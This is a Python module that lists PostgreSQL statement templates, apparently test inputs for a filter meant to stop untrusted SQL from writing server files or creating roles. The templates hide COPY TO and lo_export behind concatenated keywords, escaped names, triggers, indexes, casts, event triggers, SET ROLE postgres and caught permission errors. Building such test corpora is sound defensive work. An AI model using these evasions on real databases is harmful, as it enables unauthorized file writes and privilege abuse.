"""Ways out of a database that no statement says plainly: each writes {file} or makes {role}."""

from __future__ import annotations

COPY = "concat('CO', 'PY (SELECT 1) TO ', quote_literal('{file}'))"
BY_COPY = f"EXECUTE {COPY};"
BY_OBJECT = "PERFORM lo_export(77, '{file}');"
# plpgsql's own text, which no word of it gives away.
DRAWN = "EXECUTE concat('select lo_ex', 'port(77, ', quote_literal('{file}'), ')');"
BLOCK = "DO $$ BEGIN {} END $$;"
FUNCTION = (
    "SELECT lo_from_bytea(77, 'x');"
    "CREATE FUNCTION f(a int) RETURNS int LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN {} RETURN 1; END"
    " $$; CREATE TABLE t (a int, b int); "
)
TRIGGER = (
    "SELECT lo_from_bytea(77, 'x');"
    f"CREATE FUNCTION g() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN {BY_OBJECT} RETURN "
    "coalesce(NEW, OLD); END $$; CREATE TABLE t (a int PRIMARY KEY);"
)
PROCEDURE = "CREATE PROCEDURE {}() LANGUAGE plpgsql AS $$ BEGIN {} END $$;"
CAUGHT = "BEGIN {} EXCEPTION /* any */ WHEN {} THEN NULL; END;"
EVENT = "CREATE {}FUNCTION e() RETURNS event_trigger LANGUAGE plpgsql AS $$ BEGIN {} END $$;"
ON_EVENT = "CREATE EVENT TRIGGER e ON ddl_command_end EXECUTE FUNCTION e();"
ROW = "INSERT INTO t VALUES (1)"

# Statements that commit.
COMMITTING = {
    "a role behind a commit": BLOCK.format("COMMIT; CREATE ROLE {role}; COMMIT;"),
    "a role before one": BLOCK.format("CREATE ROLE {role}; COMMIT AND CHAIN;"),
    "a role of a procedure": PROCEDURE.format("p1", "COMMIT; EXECUTE 'CREATE ROLE {role}';")
    + "CALL p1()",
    "a role of another procedure": PROCEDURE.format("p2", "COMMIT;")
    + PROCEDURE.format("p3", "CREATE ROLE {role};")
    + BLOCK.format("CALL p2(); CALL p3(); COMMIT;"),
    "a role in words put together": BLOCK.format(
        "ROLLBACK; EXECUTE concat('CREATE ', 'ROLE {role}'); COMMIT;"
    ),
    "a role behind what needs a commit": "CREATE TYPE mood AS ENUM ('calm');"
    "DO LANGUAGE plpgsql 'BEGIN ALTER TYPE mood ADD VALUE ''cross''; COMMIT;"
    " PERFORM ''cross''::mood; CREATE ROLE {role}; COMMIT; END'",
    "a file behind a commit": BLOCK.format(f"COMMIT; {BY_COPY}"),
    "a file of a procedure": PROCEDURE.format("p4", f"COMMIT; {BY_COPY}") + "CALL p4()",
}
# Those that a transaction can hold.
OTHERS = {
    "behind what a superuser alone may set": BLOCK.format(
        f"SET LOCAL session_replication_role = replica; {BY_COPY}"
    ),
    "a function with a setting of its own": "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql "
    f"SET lc_messages = 'C' AS $$ BEGIN {BY_COPY} RETURN 1; END $$; SELECT f()",
    "an index that is made": f"{FUNCTION.format(BY_OBJECT)}{ROW}; CREATE INDEX ON t (f(a))",
    "an index that is made, unsaid": f"{FUNCTION.format(DRAWN)}{ROW}; CREATE INDEX ON t (f(a))",
    "an index": f"{FUNCTION.format(DRAWN)} CREATE INDEX ON t (a) WHERE f(a) > 0; {ROW}",
    "statistics": f"{FUNCTION.format(DRAWN)} CREATE STATISTICS s ON (f(a)), b FROM t; {ROW}; "
    "ANALYZE t",
    "statistics of all": f"{FUNCTION.format(DRAWN)} CREATE STATISTICS s ON (f(a)), b FROM t; "
    f"ALTER TABLE t DISABLE TRIGGER ALL; {ROW}; ANALYZE",
    "a domain": f"{FUNCTION.format(DRAWN)} CREATE DOMAIN d AS int CHECK (f(VALUE) > 0); "
    "CREATE TABLE u (a d[]); INSERT INTO u VALUES ('{1}')",
    "a domain of rows": f"{FUNCTION.format(BY_OBJECT)} CREATE DOMAIN d AS int; "
    "CREATE TABLE u AS SELECT 1::d AS a; ALTER DOMAIN d ADD CHECK (f(VALUE) > 0)",
    "an operator": f"{FUNCTION.format(BY_OBJECT)} CREATE OPERATOR ### "
    "(FUNCTION = f, RIGHTARG = int); SELECT ### 1",
    "an operator, unsaid": f"{FUNCTION.format(DRAWN)} CREATE OPERATOR ### "
    "(FUNCTION = f, RIGHTARG = int); SELECT ### 1",
    "an aggregate": "SELECT lo_from_bytea(77, 'x'); CREATE FUNCTION g(s int, a int) RETURNS int "
    f"LANGUAGE plpgsql AS $$ BEGIN {BY_OBJECT} RETURN 1; END $$; CREATE AGGREGATE agg(int) "
    "(SFUNC = g, STYPE = int, INITCOND = '0'); SELECT agg(a) FROM (VALUES (1)) v (a)",
    "a cast": "SELECT lo_from_bytea(77, 'x'); CREATE TYPE two AS (a int); CREATE FUNCTION g(a int) "
    f"RETURNS two LANGUAGE plpgsql AS $$ BEGIN {BY_OBJECT} RETURN ROW(1); END $$; "
    "CREATE CAST (int AS two) WITH FUNCTION g AS ASSIGNMENT; CREATE TABLE t (b two);" + ROW,
    "an operator class": f"{FUNCTION.format(DRAWN)} CREATE FUNCTION cmp(a int, b int) RETURNS int "
    "LANGUAGE plpgsql IMMUTABLE AS $$ BEGIN PERFORM f(a); RETURN a - b; END $$; CREATE OPERATOR "
    "CLASS o FOR TYPE int USING btree AS OPERATOR 1 <, OPERATOR 2 <=, OPERATOR 3 =, OPERATOR 4 >=, "
    "OPERATOR 5 >, FUNCTION 1 cmp(int, int); CREATE INDEX ON t (a o); "
    "INSERT INTO t VALUES (1), (2), (3)",
    "an event": EVENT.format("", BY_COPY) + ON_EVENT + "CREATE TABLE t ()",
    "an event whose function is replaced": EVENT.format("", "")
    + ON_EVENT
    + EVENT.format("OR REPLACE ", "COPY (SELECT 1) TO '{file}';"),
    "a bound": f"{FUNCTION.format(DRAWN)} CREATE TABLE u (a int) PARTITION BY RANGE (a); "
    "CREATE TABLE v PARTITION OF u FOR VALUES FROM (f(1)) TO (9)",
    "a partition's trigger": "CREATE TABLE u (a int) PARTITION BY RANGE (a);"
    f"{TRIGGER} CREATE TRIGGER g BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION g(); "
    "ALTER TABLE u ATTACH PARTITION t DEFAULT; INSERT INTO u VALUES (1)",
    "the trigger of who refers": f"{TRIGGER} CREATE TABLE u (a int REFERENCES t ON DELETE CASCADE);"
    f"{ROW}; INSERT INTO u VALUES (1); CREATE TRIGGER g BEFORE DELETE ON u FOR EACH ROW "
    "EXECUTE FUNCTION g(); DELETE FROM t",
    "a trigger below a view": f"{TRIGGER} CREATE VIEW v AS SELECT a FROM t; CREATE TRIGGER g "
    "BEFORE INSERT ON t FOR EACH ROW EXECUTE FUNCTION g(); INSERT INTO v VALUES (1)",
    "another name": "SELECT lo_from_bytea(77, 'x'); CREATE FUNCTION g(oid, text) RETURNS int "
    "LANGUAGE internal AS 'be_lo_export'; SELECT g(77, '{file}')",
    "a name in quotes": "SELECT lo_from_bytea(77, 'x'); SELECT \"lo_export\"(77, '{file}')",
    "a name in numbers": "SELECT lo_from_bytea(77, 'x'); SELECT U&\"lo_e\\0078port\"(77, '{file}')",
    "a materialized view": f"{FUNCTION.format(DRAWN)}{ROW}; CREATE MATERIALIZED VIEW m AS "
    "SELECT f(a) FROM t WITH NO DATA; REFRESH MATERIALIZED VIEW m",
    "a block that resets its role": BLOCK.format(f"RESET ROLE; {BY_COPY}"),
    "a function of its owner": "CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql SECURITY DEFINER "
    f"AS $$ BEGIN {BY_COPY} END $$; SELECT g()",
    "a role that is set by a text": BLOCK.format(
        f"EXECUTE concat('SET RO', 'LE ', 'postgres'); {BY_COPY}"
    ),
    "a setting of the role": BLOCK.format(
        "PERFORM set_config(concat('ro', 'le'), 'postgres', true);" + BY_COPY
    ),
    "a session that is reset": BLOCK.format(
        f"EXECUTE concat('RESET SESSION AUTHO', 'RIZATION'); {BY_COPY}"
    ),
    "a block that catches the denial": BLOCK.format(CAUGHT.format(BY_COPY, "OTHERS")),
    "a block that catches it among others": BLOCK.format(
        "BEGIN PERFORM 1 / 0; EXCEPTION WHEN division_by_zero THEN NULL; END;"
        + CAUGHT.format(BY_COPY, "division_by_zero OR SQLSTATE '42501'")
    ),
    "a function that catches the denial": "CREATE FUNCTION f() RETURNS int LANGUAGE plpgsql AS $$ "
    f"BEGIN {CAUGHT.format(BY_COPY, 'OTHERS')} RETURN 1; END $$; SELECT f()",
}
